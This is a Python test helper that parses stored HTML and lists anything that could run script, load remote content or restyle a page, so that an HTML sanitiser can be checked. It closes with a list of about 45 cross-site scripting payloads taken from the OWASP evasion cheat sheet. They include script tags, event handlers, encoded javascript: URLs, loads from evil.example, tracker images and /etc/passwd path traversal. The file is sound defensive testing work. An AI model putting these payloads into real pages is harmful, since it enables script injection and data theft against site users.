"""An independent check that stored HTML is safe to put in a page, for the sanitiser tests.

It parses the markup (html.parser, which decodes character references in
attribute values the way a browser does) and lists what could run script,
load from elsewhere, or restyle the page; it does not reuse the sanitiser's own
allow-lists, so a sanitiser that lets something through is caught here. The
same payloads are checked raw by the tests: the check must flag every one.
"""

import posixpath
import re
from html.parser import HTMLParser
from urllib.parse import unquote

MEDIA_URL = "/media/"
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}

# Elements that only structure text; anything else (script, style, iframe,
# object, embed, form, svg, math, noscript, template, meta, link, base, an
# unknown name such as "scr<script") is reported.
INERT_ELEMENTS = {
    *("p", "br", "hr", "div", "span", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "address"),
    *("strong", "b", "em", "i", "u", "s", "sub", "sup", "mark", "small", "abbr", "code", "kbd", "q", "cite"),
    *("del", "ins", "time", "wbr", "ul", "ol", "li", "dl", "dt", "dd", "a", "figure", "figcaption"),
    *("img", "picture", "source", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption"),
    *("colgroup", "col"),
}
URL_ATTRIBUTES = {
    *("href", "src", "srcset", "action", "formaction", "background", "data", "poster", "cite", "longdesc"),
    *("lowsrc", "dynsrc", "codebase", "classid", "archive", "usemap", "ping", "manifest", "icon", "xlink:href"),
}
# Elements whose address is fetched without a click: only this site's media.
FETCHED = {"img", "source"}
DANGEROUS_STYLE = re.compile(
    r"url\s*\(|expression\s*\(|javascript:|behavior\s*:|-moz-binding|@import|position\s*:|\\", re.IGNORECASE
)
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)


def _as_browser_reads(url):
    """Leading/trailing controls and spaces dropped, tabs and newlines removed, backslashes as slashes."""
    url = url.strip("".join(chr(code) for code in range(0x21)))
    return re.sub(r"[\t\n\r]", "", url).replace("\\", "/")


def url_problem(tag, attribute, value):
    """Why this URL is unsafe in this place, or None."""
    url = _as_browser_reads(value)
    scheme = _SCHEME.match(url)
    if scheme and scheme.group(1).lower() not in SAFE_SCHEMES:
        return f"{tag} {attribute}: scheme {scheme.group(1)!r}"
    path = unquote(url.split("?", 1)[0].split("#", 1)[0])
    escapes_media = path.startswith(MEDIA_URL) and not posixpath.normpath(path).startswith(MEDIA_URL)
    if escapes_media:
        return f"{tag} {attribute}: {value!r} leaves {MEDIA_URL}"
    if tag in FETCHED and attribute in {"src", "srcset"} and (scheme or not path.startswith(MEDIA_URL)):
        return f"{tag} {attribute}: {value!r} is not this site's media"
    return None


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in INERT_ELEMENTS:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}: event handler")
            elif name == "style" and DANGEROUS_STYLE.search(value):
                self.problems.append(f"{tag} style: {value!r}")
            elif name == "srcset":
                for candidate in value.split(","):
                    problem = url_problem(tag, name, (candidate.split() or [""])[0])
                    if problem:
                        self.problems.append(problem)
            elif name in URL_ATTRIBUTES:
                problem = url_problem(tag, name, value)
                if problem:
                    self.problems.append(problem)

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        # Conditional comments and parser differentials: stored bodies carry none.
        self.problems.append(f"comment {data[:40]!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data[:40]!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data[:40]!r}")


def problems(markup):
    """What in this markup could run script, load from elsewhere or take over the page."""
    inspector = _Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector.problems


# From the OWASP XSS filter evasion cheat sheet and friends; each one is unsafe as it stands.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.jpg" onerror="alert(1)">',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<form action="https://evil.example"><input name=p></form>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<base href="https://evil.example/">',
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '<img src="/media/../../etc/passwd">',
    '<img src="/media/%2e%2e/%2e%2e/etc/passwd">',
    '<img src="/media/a.jpg" srcset="/media/a.jpg 1x, https://tracker.example/b.jpg 2x">',
    '<a href="#" onclick="alert(1)">x</a>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td onmouseover="alert(1)">x</td>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
